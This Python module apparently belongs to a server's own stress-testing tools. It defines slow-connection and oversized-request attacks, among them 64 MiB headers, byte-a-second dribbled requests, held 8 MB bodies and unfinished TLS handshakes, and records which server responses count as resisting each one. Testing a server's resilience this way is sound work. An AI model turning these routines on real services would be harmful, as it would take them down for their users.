"""Connections that cost the server something before they have asked for anything."""

from __future__ import annotations

import asyncio
from functools import partial

from tools.attack.attack import ATTACKER_KEY, COMPLETIONS, ENDED, Attack, Strike, outcomes
from tools.attack.wire import Connection, request

HEADER_BYTES = 64 << 20
HEAD_SECONDS = 65.0  # in which a server ends a connection whose request does not come
HELD_SECONDS = 80.0  # as above, counted from before 200 bodies are sent
CLIENT_HELLO = bytes.fromhex("16030100a5010000a10303")  # the beginning of one


async def one_header(strike: Strike) -> None:
    await strike.raw(b"GET /health HTTP/1.1\r\nhost: localhost\r\nx-long: " + b"x" * HEADER_BYTES + b"\r\n\r\n")


async def many_headers(strike: Strike) -> None:
    lines = b"".join(b"x-%07d: %s\r\n" % (number, b"y" * 50) for number in range(HEADER_BYTES // 63))
    await strike.raw(b"GET /health HTTP/1.1\r\nhost: localhost\r\n" + lines + b"\r\n")


async def long_target(strike: Strike) -> None:
    await strike.raw(b"GET /" + b"x" * HEADER_BYTES + b" HTTP/1.1\r\nhost: localhost\r\n\r\n")


async def silent(strike: Strike, number: int, data: bytes = b"") -> None:
    number = strike.number(number, number // 10)
    await strike.all([partial(strike.raw, data)] * number, number)


async def unfinished_tls(strike: Strike) -> None:
    """Begin a handshake over plain TCP, on a port that speaks TLS."""
    number = strike.number(500, 50)
    plain = partial(strike.raw, CLIENT_HELLO, plain=True)
    await strike.all([plain] * number, number)


async def dribble(strike: Strike, begin: bytes, then: bytes) -> None:
    async def send(connection: Connection) -> None:
        await connection.send(begin)
        for byte in then:
            await asyncio.sleep(1)
            await connection.send(bytes([byte]))

    number = strike.number(200, 20)
    await strike.all([partial(strike.raw, send)] * number, number)


async def held_bodies(strike: Strike) -> None:
    """Bodies of 8 MB that come but for the last bytes: what was received waits in memory."""
    length = 8 * 2**20 - 1024
    head = request("POST", COMPLETIONS, b"", {"authorization": f"Bearer {ATTACKER_KEY}", "content-length": str(length)})

    async def send(connection: Connection) -> None:
        await connection.send(head + b" " * (length - 1024))

    number = strike.number(200, 20)
    await strike.all([partial(strike.raw, send)] * number, number)


DRIBBLED_HEAD = f"POST {COMPLETIONS} HTTP/1.1\r\nauthorization: Bearer {ATTACKER_KEY}\r\nx-slow: ".encode()
DRIBBLED_BODY = request(
    "POST", COMPLETIONS, b"", {"authorization": f"Bearer {ATTACKER_KEY}", "content-length": "100000"}
)
NOT_ANSWERED = ENDED | outcomes(400, 408, 431)
ATTACKS = (
    Attack("header-64mb", "64 MiB in one header", one_header, NOT_ANSWERED, bare=True),
    Attack("headers-64mb", "64 MiB in a million headers", many_headers, NOT_ANSWERED, bare=True),
    Attack("target-64mb", "64 MiB in the request's target", long_target, NOT_ANSWERED | outcomes(404, 414), bare=True),
    Attack("silent", "2,000 connections that send nothing", partial(silent, number=2000), NOT_ANSWERED | outcomes(503),
           bare=True, answer_seconds=HEAD_SECONDS, limit_seconds=80),
    Attack("dribbled-headers", "200 heads, a byte a second", partial(dribble, begin=DRIBBLED_HEAD, then=b"x" * 1000),
           NOT_ANSWERED, bare=True, answer_seconds=HEAD_SECONDS, limit_seconds=80),
    Attack("dribbled-bodies", "200 bodies, a byte a second", partial(dribble, begin=DRIBBLED_BODY, then=b" " * 1000),
           NOT_ANSWERED, bare=True, answer_seconds=HEAD_SECONDS, limit_seconds=80),
    Attack("held-bodies", "200 bodies of 8 MB without their last bytes", held_bodies, NOT_ANSWERED | outcomes(429),
           answer_seconds=HELD_SECONDS, limit_seconds=90),
    Attack("few-files", "400 silent connections to a server with 256 files", partial(silent, number=400),
           NOT_ANSWERED | outcomes(503, "refused"), server="few files", bare=True, answer_seconds=HEAD_SECONDS,
           limit_seconds=80),
    Attack("tls-unfinished", "500 handshakes that do not go on", unfinished_tls, NOT_ANSWERED | outcomes("not HTTP"),
           server="TLS", bare=True, answer_seconds=HEAD_SECONDS, limit_seconds=80),
)  # fmt: skip
